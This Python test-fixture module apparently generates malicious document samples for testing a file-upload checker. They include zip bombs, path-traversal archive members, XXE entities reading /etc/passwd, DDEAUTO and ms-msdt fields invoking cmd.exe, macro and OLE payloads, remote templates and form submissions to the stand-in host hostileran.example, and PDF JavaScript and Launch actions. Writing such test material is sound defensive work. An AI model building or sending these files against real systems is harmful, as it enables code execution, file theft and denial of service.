"""Documents and packed files that mean harm."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO

Made = tuple[str, str, Callable[[], bytes]]
OFFICE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = "application/vnd.oasis.opendocument.text"


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes], packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", packed) as archive:
        for name, body in members:
            archive.writestr(name, body)
    return written.getvalue()


def types(kind: str = OFFICE) -> tuple[str, bytes]:
    text = f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    return "[Content_Types].xml", text.encode()


def docx(*more: tuple[str | zipfile.ZipInfo, bytes], kind: str = OFFICE, words: bytes = b"<w:t>Words</w:t>") -> bytes:
    body = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body>' + words + b"</w:body></w:document>"
    return zipped(types(kind), ("word/document.xml", body), *more)


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> tuple[str, bytes]:
    text = f'<Relationships><Relationship Id="a" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    return "word/_rels/document.xml.rels", text.encode()


def odt(*more: tuple[str, bytes], words: bytes = b"<text:p>Words</text:p>", kind: str = ODT) -> bytes:
    body = b'<office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x" xmlns:script="s" xmlns:draw="d"'
    body += b' xmlns:table="b">' + words + b"</office:document-content>"
    return zipped(("mimetype", kind.encode()), ("content.xml", body), *more)


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R", tail: bytes = b"") -> bytes:
    body = (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    )
    for number, content in enumerate(objects, 3):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return body + b"trailer <<" + trailer + b">>\nstartxref\n9\n%%EOF\n" + tail


def stream(content: bytes, said: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (said, len(content), content)


def documents(script: bytes) -> Iterator[Made]:
    """Yield what is wrong, a name, and how it is made."""
    page = b"<html><script>%s</script></html>" % script
    yield from _zips(page)
    yield from _office(script, page)
    yield from _open_documents(script)
    yield from _pdfs(script, page)


def _zips(page: bytes) -> Iterator[Made]:
    zeros = bytes(50_000_000)
    nested = zipped(("a.zip", zipped(("b.zip", zipped(("c", bytes(5_000_000)))))))
    for name in ("bomb.zip", "bomb.docx", "photo.jpg"):
        yield f"zip of zips as {name}", name, lambda: nested
        yield f"zip of a page as {name}", name, lambda: zipped(("index.html", page))
    yield "docx that unfolds to 150 MB", "essay.docx", lambda: docx(*((f"word/{n}.bin", zeros) for n in range(3)))
    yield "docx with a zip inside", "essay.docx", lambda: docx(("word/embeddings/a.zip", nested))
    yield (
        "docx in docx in docx",
        "essay.docx",
        lambda: docx(("word/embeddings/a.docx", docx(("word/embeddings/b.docx", docx())))),
    )
    yield "docx of one member told twice", "essay.docx", _overlapping
    yield "docx of 60 000 members", "essay.docx", lambda: _many_members(60_000)
    for number, name in enumerate(
        ("../../up.xml", "/etc/passwd.xml", "..\\up.xml", "C:/a.xml", "a\u202elmx.xml", "a/../../b.xml", "a\nb.xml")
    ):
        yield (
            f"docx with a member that leads away, {number}",
            "essay.docx",
            lambda name=name: docx((zipfile.ZipInfo(name), b"<a/>")),
        )
    yield "docx with two of one name", "essay.docx", _twins
    yield "docx with a locked member", "essay.docx", lambda: _flagged(docx(), 1)
    yield "docx with a page before", "essay.docx", lambda: page + docx()
    yield "docx with a page behind", "essay.docx", lambda: docx() + page
    yield "docx with a page as its comment", "essay.docx", lambda: docx()[:-2] + struct.pack("<H", len(page)) + page
    yield "docx with a page between", "essay.docx", lambda: _with_gap(page)
    yield "docx cut off", "essay.docx", lambda: docx()[:-40]
    yield "docx of its first bytes", "essay.docx", lambda: docx()[:30]
    yield (
        "docx packed strangely",
        "essay.docx",
        lambda: zipped(types(), ("word/document.xml", b"<a/>"), packed=zipfile.ZIP_LZMA),
    )
    yield "docx whose sizes lie", "essay.docx", lambda: _lying_sizes(10)
    yield "docx whose sizes lie by far", "essay.docx", lambda: _lying_sizes(2**32 - 2)
    yield (
        "docx with broken bytes",
        "essay.docx",
        lambda: docx().replace(b"word/document.xml", b"word/d\xff\xfe\0ment.xml"),
    )


def _overlapping() -> bytes:
    whole = docx(("word/a.bin", bytes(100_000)))
    at = whole.rindex(b"PK\x01\x02")
    record, end = whole[at : at + 46 + len("word/a.bin")], whole[-22:]
    more = b"".join(record.replace(b"a.bin", b"%c.bin" % letter) for letter in range(98, 120))
    n, size = struct.unpack_from("<HHI", end, 8)[0] + 22, struct.unpack_from("<I", end, 12)[0] + len(more)
    return whole[:-22] + more + end[:8] + struct.pack("<HHI", n, n, size) + end[16:]


def _many_members(n: int) -> bytes:
    local = b"PK\x03\x04" + bytes(26)
    central = b"PK\x01\x02" + bytes(42)
    end = b"PK\x05\x06\0\0\0\0" + struct.pack("<HHIIH", n, n, len(central) * n, len(local) * n, 0)
    return local * n + central * n + end


def _twins() -> bytes:
    whole = docx(("word/a.xml", b"<a/>"), ("word/b.xml", b"<b/>"))
    return whole.replace(b"word/b.xml", b"word/A.xml")


def _flagged(whole: bytes, flag: int) -> bytes:
    changed = bytearray(whole)
    changed[6] |= flag
    changed[whole.index(b"PK\x01\x02") + 8] |= flag
    return bytes(changed)


def _with_gap(page: bytes) -> bytes:
    whole = docx()
    at = whole.index(b"PK\x01\x02")
    end = bytearray(whole[-22:])
    end[16:20] = struct.pack("<I", at + len(page))
    return whole[:at] + page + whole[at:-22] + bytes(end)


def _lying_sizes(size: int) -> bytes:
    whole = bytearray(docx())
    at = whole.index(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(whole)


def _office(script: bytes, page: bytes) -> Iterator[Made]:
    macro = OFFICE.replace("document.main", "document.macroEnabled.main").replace(
        "openxmlformats-officedocument", "ms-word"
    )
    laughs = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "' + b"&a;" * 1000 + b'">]><a>&b;</a>'
    outside = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    fetched = b'<!DOCTYPE a SYSTEM "http://hostileran.example/a.dtd"><a/>'
    made: dict[str, Callable[[], bytes]] = {
        "macros": lambda: docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + script)),
        "macros by kind": lambda: docx(kind=macro),
        "macros elsewhere": lambda: docx(("customXml/VBAPROJECT.BIN", b"a")),
        "macros by relation": lambda: docx(relation("vbaProject", "a.bin", "")),
        "active x": lambda: docx(("word/activeX/activeX1.xml", b"<a/>")),
        "ole inside": lambda: docx(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + script)),
        "program inside": lambda: docx(("word/media/image1.png", b"MZ\x90\0" + script)),
        "program by name": lambda: docx(("word/media/a.exe", b"a")),
        "script inside": lambda: docx(("word/a.js", script)),
        "page inside": lambda: docx(("word/afchunk.html", page)),
        "page called a picture": lambda: docx(("word/media/image1.png", page)),
        "svg with a script": lambda: docx(("word/media/image1.svg", b"<svg><script>%s</script></svg>" % script)),
        "svg with onload": lambda: docx(("word/media/image1.svg", b'<svg onload="alert(1)"/>')),
        "template elsewhere": lambda: docx(relation("attachedTemplate", "http://hostileran.example/a.dotm")),
        "template on a share": lambda: docx(relation("attachedTemplate", "file://///hostileran/a.dotm")),
        "picture elsewhere": lambda: docx(relation("image", "http://hostileran.example/a.png")),
        "object elsewhere": lambda: docx(relation("oleObject", "mhtml:http://hostileran.example/a")),
        "table elsewhere": lambda: docx(relation("externalLinkPath", "file:///a.xlsx")),
        "chunk of a page": lambda: docx(relation("aFChunk", "a.html", "")),
        "link that is a script": lambda: docx(relation("hyperlink", "javascript:alert(1)")),
        "link to a program": lambda: docx(relation("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        "entities that laugh": lambda: docx(("word/a.xml", laughs)),
        "entities from outside": lambda: docx(("word/a.xml", outside)),
        "entities in relations": lambda: docx(("word/_rels/document.xml.rels", outside)),
        "entities wide": lambda: docx(("word/a.xml", outside.decode().encode("utf-16"))),
        "declaration fetched": lambda: docx(("word/a.xml", fetched)),
        "entities without a name": lambda: docx(("word/a.bin", b"  " + outside)),
        "field that calls": lambda: docx(words=b"<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>"),
        "field in parts": lambda: docx(words=b"<w:instrText>DD</w:instrText><w:instrText>E x y</w:instrText>"),
        "field that is simple": lambda: docx(words=b'<w:fldSimple w:instr="DDE cmd"/>'),
        "button that runs": lambda: docx(words=b'<a:hlinkClick action="ppaction://program"/>'),
        "broken inside": lambda: docx(words=b"<w:t>"),
        "depth": lambda: docx(words=b"<w:a>" * 100_000 + b"</w:a>" * 100_000),
        "no kind": lambda: zipped(("word/document.xml", b"<a/>")),
        "two kinds": lambda: docx(("a.xml", b"<a/>"), kind=f'{OFFICE}"/><a b="{OFFICE.replace("wordprocessingml.document", "spreadsheetml.sheet")}'),  # noqa: E501
    }  # fmt: skip
    for label, make in made.items():
        yield f"docx: {label}", "essay.docx", make


def _open_documents(script: bytes) -> Iterator[Made]:
    made: dict[str, Callable[[], bytes]] = {
        "macros": lambda: odt(("Basic/Standard/Module1.xml", b"<a/>")),
        "scripts": lambda: odt(("Scripts/python/a.py", script)),
        "listener": lambda: odt(words=b'<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
        "link to a macro": lambda: odt(words=b'<text:a xlink:href="macro:///Standard.a"/>'),
        "link that is a script": lambda: odt(words=b'<text:a xlink:href="javascript:alert(1)"/>'),
        "picture elsewhere": lambda: odt(words=b'<draw:image xlink:href="http://hostileran.example/a.png"/>'),
        "plugin elsewhere": lambda: odt(words=b'<draw:plugin xlink:href="https://hostileran.example/"/>'),
        "calls a program": lambda: odt(words=b'<office:dde-source office:dde-application="cmd"/>'),
        "entities": lambda: odt(("meta.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')),
        "locked": lambda: odt(("META-INF/manifest.xml", b"<m:manifest><m:encryption-data/></m:manifest>")),
        "other kind": lambda: odt(kind="text/html"),
        "book": lambda: odt(kind="application/epub+zip"),
    }
    for label, make in made.items():
        yield f"odt: {label}", "essay.odt", make


def _pdfs(script: bytes, page: bytes) -> Iterator[Made]:
    acts = b"<</S/JavaScript/JS(" + script.replace(b"(", b"[").replace(b")", b"]") + b")>>"
    hidden = zlib.compress(b"5 0 6 20 " + acts)
    made: dict[str, Callable[[], bytes]] = {
        "javascript": lambda: pdf(acts, trailer=b"/OpenAction 3 0 R"),
        "javascript spelt": lambda: pdf(b"<</S/J#61v#61Script/#4aS(a)>>"),
        "javascript in a stream": lambda: pdf(stream(hidden, b"/Type/ObjStm/N 2/First 9/Filter/FlateDecode")),
        "javascript in a stream without a kind": lambda: pdf(stream(hidden, b"/N 2/First 9/Filter/FlateDecode")),
        "javascript in a plain stream": lambda: pdf(stream(b"5 0 " + acts, b"/Type/ObjStm/N 1/First 4")),
        "javascript in a strange stream": lambda: pdf(stream(b"AAAA", b"/Type/ObjStm/Filter/LZWDecode")),
        "javascript behind a comment": lambda: pdf(b"%>>stream\n9 0 obj " + acts + b" endobj\n%endstream"),
        "launch": lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"),
        "files inside": lambda: pdf(b"<</EmbeddedFiles 4 0 R>>"),
        "form of another kind": lambda: pdf(b"<</XFA 4 0 R>>"),
        "form that sends": lambda: pdf(b"<</S/SubmitForm/F(http://hostileran.example)>>"),
        "data from outside": lambda: pdf(b"<</S/ImportData/F(a)>>"),
        "film inside": lambda: pdf(b"<</Subtype/RichMedia>>"),
        "another pdf": lambda: pdf(b"<</S/GoToE/T 4 0 R>>"),
        "locked": lambda: pdf(trailer=b"/Root 1 0 R/Encrypt 5 0 R"),
        "bomb": lambda: pdf(stream(zlib.compress(b"1 0 " + bytes(90_000_000), 9), b"/Type/ObjStm/Filter/FlateDecode")),
        "bomb of pictures": lambda: pdf(*(stream(zlib.compress(bytes(60_000_000), 9)) for _n in range(2))),
        "page before": lambda: page + pdf(),
        "page behind": lambda: pdf(tail=page),
        "page inside": lambda: pdf(b"(" + page + b")"),
        "cut off": lambda: pdf()[:-20],
        "stream without an end": lambda: pdf(b"<<>>\nstream\n" + page),
        "300 000 streams": lambda: pdf(b">>stream\n\nendstream" * 300_000),
        "head alone": lambda: b"%PDF-1.7",
        "head and noise": lambda: b"%PDF-1.7" + bytes(n * 7919 % 251 for n in range(100_000)),
        "slashes": lambda: pdf(b"/" * 3_000_000),
        "numbers": lambda: pdf(b" 1" * 1_000_000),
    }
    for label, make in made.items():
        yield f"pdf: {label}", "plan.pdf", make
